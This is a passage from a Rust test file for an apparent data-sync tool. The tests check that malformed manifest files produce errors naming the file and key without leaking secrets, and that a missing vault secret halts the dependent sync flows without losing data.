                m.flow("vendors-to-peoplesoft")["requires"] =
                    toml_edit::value(toml_edit::Array::from_iter(["no-such-flow"]))
            }),
            "no-such-flow",
        ),
        // Not TOML at all: an unterminated table header.
        ("syntax error", format!("{base}\n[store\n"), "line"),
        (
            "wrong type",
            edited(&|m| m.flow(PO_FLOW)["concurrency"] = toml_edit::value("four")),
            "concurrency",
        ),
        (
            "unknown on_change",
            edited(&|m| m.flow("vendors-to-procurify")["on_change"] = toml_edit::value("merge")),
            "on_change",
        ),
        (
            "unknown auth scheme",
            edited(&|m| {
                m.auth("peoplesoft").insert("scheme", "kerberos".into());
            }),
            "auth",
        ),
    ];
    for (name, text, key) in &cases {
        let err = Manifest::parse(&dir.path().join("manifest.toml"), text)
            .map(|_| ())
            .expect_err(name);
        let message = err.to_string();
        assert!(
            message.contains("manifest.toml")
                && (message.contains(key) || message.contains("(line ")),
            "{name}: the error must name the file and {key:?} (or its line): {message}"
        );
        assert!(
            !message.contains("hunter2"),
            "{name}: the error repeats a secret: {message}"
        );
    }
    // Not UTF-8 at all.
    let path = dir.path().join("binary.toml");
    std::fs::write(&path, b"[store]\npath = \"\xff\xfe\"\n").unwrap();
    let err = Manifest::load(&path).expect_err("invalid UTF-8");
    assert!(err.to_string().contains("binary.toml"), "{err}");
    println!("manifest corpus: {} items", cases.len() + 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_secret_halts_the_flows_that_need_it_with_its_name_and_loses_nothing() {
    let stage = Kit::builder()
        .requisitions(60)
        .fronts(9)
        .manifest(|m| {
            m.auth("peoplesoft")
                .insert("password", "secret:peoplesoft/not-set-yet".into());
        })
        .start()
        .await;
    let app = stage.app().await;
    let reports = app.sync(None, None).await.unwrap();
    let halted = halted(&reports);
    assert!(!halted.is_empty(), "{reports:?}");
    assert!(
        halted.iter().all(|m| m.contains("peoplesoft/not-set-yet")),
        "the halt must name the missing secret: {halted:?}"
    );
    assert!(stage.peoplesoft.purchase_orders().is_empty());
    assert!(
        app.pipeline
            .dead_letters(TENANT, PO_FLOW)
            .unwrap()
            .is_empty()
    );
    drop(app);

    // The operator stores the secret: the next sync delivers everything.
    {
        let key = mlc_host::vault::VaultKey::from_file(&stage.key_path()).unwrap();
        mlc_host::vault::Vault::new(key, Arc::new(stage.store()))
            .set(
                TENANT,
                "peoplesoft/not-set-yet",
                &mlc_host::credentials::Secret::new(DEMO_PASSWORD),
            )
            .unwrap();
    }
    let reports = stage.app().await.sync(None, None).await.unwrap();
    assert!(all_completed(&reports), "{reports:?}");
    assert_exactly_once(&stage);
}
